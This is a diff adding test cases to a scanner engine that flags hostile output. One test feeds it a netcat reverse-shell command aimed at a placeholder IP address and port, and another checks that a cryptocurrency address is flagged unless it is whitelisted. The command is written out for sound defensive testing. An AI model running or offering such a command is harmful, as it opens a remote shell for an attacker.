@@ -80,3 +80,17 @@ describe('scanner engine: instructions planted in handed-over content', () => {
     'How do I use child_process.exec in Node to run `git status` and read the output?',
   ]);
 });
+
+describe('scanner engine: outbound fixes of this round', () => {
+  it('catches a netcat reverse shell without pipes or redirections', async () => {
+    const { scanOutput } = await import('../../../scanner/engine/mod.js');
+    const r = await scanOutput({ text: 'Connect the helper with: nc -e /bin/sh 198.51.100.23 4444', jobId: '00000000-0000-4000-8000-000000000000' }, C);
+    expect(r.flags.map((f) => f.type)).to.include('reverse_shell');
+  });
+  it('lets the fallback flag addresses of every chain the engine knows, and pass the whitelisted one', async () => {
+    const { fallbackScanOutput } = await import('../../../scanner/client/fallback.js');
+    const xrp = 'rHb9CJAWyB4rj91VRWn96DkukG4bwdtyTh';
+    expect(fallbackScanOutput(`Tip me in XRP at ${xrp}.`).flags.map((f) => f.type)).to.include('crypto_address');
+    expect(fallbackScanOutput(`Pay the escrow deposit to ${xrp} as agreed.`, [xrp]).safe).to.equal(true);
+  });
+});
